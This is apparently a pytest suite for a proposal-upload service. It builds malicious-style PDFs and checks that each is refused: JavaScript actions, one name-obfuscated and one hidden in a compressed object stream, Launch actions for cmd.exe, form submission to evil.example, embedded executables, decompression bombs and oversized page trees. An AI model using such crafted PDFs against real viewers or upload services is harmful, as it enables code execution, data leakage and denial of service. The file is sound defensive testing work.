"""Uploaded PDFs with active content (JavaScript, launch and other actions, actions run on
opening, embedded files, XFA, multimedia), decompression bombs and page trees beyond
pypdf's limits are refused with the reason, never stored. Each test builds its PDF."""
from __future__ import annotations

import io
import zlib

import pytest
from pypdf import PdfWriter

from cfp.core.roles import Role
from cfp.extensions import db
from cfp.proposals import pdf_checks
from tests import factories as f

KIND = "CV of the PI"
REFUSED_ACTIVE = "which a viewer could run"

CATALOG = "<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def raw_pdf(*objects) -> bytes:
    """A PDF made of `objects` (numbered from 1, the first is the catalog), with its xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + (body.encode() if isinstance(body, str) else body)
        out += b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data: bytes, entries: str = "") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries.encode()) + data + b"\nendstream"


def one_page(catalog: str = "", page: str = "", *more) -> bytes:
    return raw_pdf(CATALOG % catalog, PAGES, PAGE % page, *more)


def written(build) -> bytes:
    """A one-page PDF written by pypdf after `build(writer)`."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.fixture
def draft(app):
    cn, be, committee = f.world()
    call = f.call(committee)
    call.side(be).required_documents = [KIND]
    pi_cn = f.user(Role.researcher, agency=cn)
    pi_be = f.user(Role.researcher, agency=be)
    proposal = f.proposal(call, pi_cn, pi_be)
    db.session.commit()
    return proposal, be, pi_be


def upload(client, draft, data: bytes):
    proposal, be, pi_be = draft
    f.login(client, pi_be)
    response = client.post(f"/proposals/{proposal.id}/documents/{be.id}",
                           data={"kind": KIND, "file": (io.BytesIO(data), "cv.pdf")},
                           follow_redirects=True)
    assert response.status_code == 200
    db.session.refresh(proposal)
    return response.data.decode(), proposal.documents


def test_a_plain_pdf_with_links_and_an_opening_view_is_accepted(client, draft):
    link = ("<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
            "/A << /S /URI /URI (https://orcid.org/0000-0002-1825-0097) >> >>")
    data = one_page("/OpenAction [3 0 R /Fit]", "/Annots [4 0 R]", link)
    page, documents = upload(client, draft, data)
    assert "Uploaded" in page and len(documents) == 1


@pytest.mark.parametrize("name, data, what", [
    ("script of the document", lambda: one_page("/Names << /JavaScript << /Names [(hello) 4 0 R] >> >>",
                                                "", "<< /S /JavaScript /JS (app.alert\\('hello'\\)) >>"),
     "JavaScript"),
    ("script on opening, its name escaped",
     lambda: one_page("/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"), "JavaScript"),
    ("script of a page event", lambda: one_page("", "/AA << /O << /S /JavaScript /JS 4 0 R >> >>",
                                                stream(b"app.alert(2)")), "JavaScript"),
    ("launch on a link", lambda: one_page("", "/Annots [4 0 R]",
                                          "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                          "/A << /S /Launch /F (cmd.exe) >> >>"),
     "starts a program or opens another file"),
    ("launch after a harmless action", lambda: one_page(
        "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>", "",
        "<< /Type /Action /S /Launch /F (calc.exe) >>"), "starts a program"),
    ("form data sent away", lambda: one_page("", "/Annots [4 0 R]",
                                             "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
                                             "/A << /S /SubmitForm /F (https://evil.example/) >> >>"),
     "sends or imports form data"),
    ("web address opened on opening",
     lambda: one_page("/OpenAction << /S /URI /URI (https://evil.example/track) >>"),
     "runs by itself"),
    ("embedded file", lambda: written(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00")),
     "an embedded file"),
    ("XFA form", lambda: one_page("/AcroForm << /Fields [] /XFA 4 0 R >>", "",
                                  stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")),
     "an XFA form"),
    ("rich media", lambda: one_page("", "/Annots [4 0 R]",
                                    "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
     "multimedia or 3D content"),
])
def test_active_content_is_refused_with_its_reason(client, draft, name, data, what):
    page, documents = upload(client, draft, data())
    assert REFUSED_ACTIVE in page and what in page, name
    assert documents == []


def test_javascript_compressed_in_an_object_stream_is_found(client, draft):
    """The catalog and its opening action inside a compressed object stream (PDF 1.5),
    where no scan of the file's bytes would see them."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    action = b"<< /S /JavaScript /JS (app.alert\\(3\\)) >>"
    header = b"1 0 5 %d " % len(catalog)
    packed = zlib.compress(header + catalog + action)
    assert b"JavaScript" not in packed
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in ((2, PAGES.encode()), (3, (PAGE % "").encode()),
                         (4, stream(packed, f"/Type /ObjStm /N 2 /First {len(header)} "
                                            "/Filter /FlateDecode"))):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [(0, 0, 65535), (2, 4, 0), (1, offsets[2], 0), (1, offsets[3], 0), (1, offsets[4], 0),
            (2, 4, 1), (1, offsets[6], 0)]
    table = b"".join(bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
                     for kind, field, extra in rows)
    out += b"6 0 obj\n" + stream(table, "/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R")
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    page, documents = upload(client, draft, bytes(out))
    assert REFUSED_ACTIVE in page and "JavaScript" in page and documents == []


def test_a_decompression_bomb_is_refused(client, draft):
    bomb = zlib.compress(bytes(pdf_checks.MAX_INFLATED_STREAM + 1024 * 1024), 9)  # ~70 kB
    data = one_page("", "/Contents 4 0 R", stream(bomb, "/Filter /FlateDecode"))
    assert len(data) < 100_000
    page, documents = upload(client, draft, data)
    assert "decompression bomb" in page and documents == []


def test_a_bomb_compressed_twice_is_refused(client, draft):
    once = zlib.compress(bytes(pdf_checks.MAX_INFLATED_STREAM + 1024 * 1024), 9)
    twice = zlib.compress(once, 9)
    data = one_page("", "/Contents 4 0 R", stream(twice, "/Filter [/FlateDecode /FlateDecode]"))
    assert len(data) < 10_000
    page, documents = upload(client, draft, data)
    assert "decompression bomb" in page and documents == []


def test_streams_that_together_expand_too_much_are_refused(client, draft, monkeypatch):
    monkeypatch.setattr(pdf_checks, "MAX_INFLATED_TOTAL", 1024 * 1024)
    part = stream(zlib.compress(bytes(400 * 1024)), "/Filter /FlateDecode")
    data = one_page("", "/Contents [4 0 R 5 0 R 6 0 R]", part, part, part)
    page, documents = upload(client, draft, data)
    assert "decompression bomb" in page and documents == []


def test_a_page_tree_too_deep_is_refused_clearly(client, draft):
    depth = 150
    objects = ["<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):  # objects 2 .. depth+1: each /Pages node holds the next
        number = level + 2
        parent = f"/Parent {number - 1} 0 R" if level else ""
        objects.append(f"<< /Type /Pages {parent} /Kids [{number + 1} 0 R] /Count 1 >>")
    objects.append(f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 595 842] >>")
    page, documents = upload(client, draft, raw_pdf(*objects))
    assert "cannot be read safely" in page and documents == []


def test_a_page_tree_too_wide_is_refused_clearly(client, draft):
    kids = " ".join(["3 0 R"] * 100_001)
    data = raw_pdf(CATALOG % "", f"<< /Type /Pages /Kids [{kids}] /Count 100001 >>", PAGE % "")
    page, documents = upload(client, draft, data)
    assert "cannot be read safely" in page and documents == []


def test_a_pdf_locked_by_a_password_is_refused(client, draft):
    def build(writer):
        writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")

    page, documents = upload(client, draft, written(build))
    assert "protected by a password" in page and documents == []


def test_a_pdf_with_only_an_owner_password_is_read(client, draft):
    def build(writer):
        writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")

    page, documents = upload(client, draft, written(build))
    assert "Uploaded" in page and len(documents) == 1


def test_the_builders_make_pdfs_that_pypdf_reads():
    """So that each refusal above is about the content, not a broken file."""
    from pypdf import PdfReader

    assert len(PdfReader(io.BytesIO(one_page())).pages) == 1
    reader = PdfReader(io.BytesIO(one_page("/OpenAction << /S /J#61vaScript /JS (x) >>")))
    assert reader.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
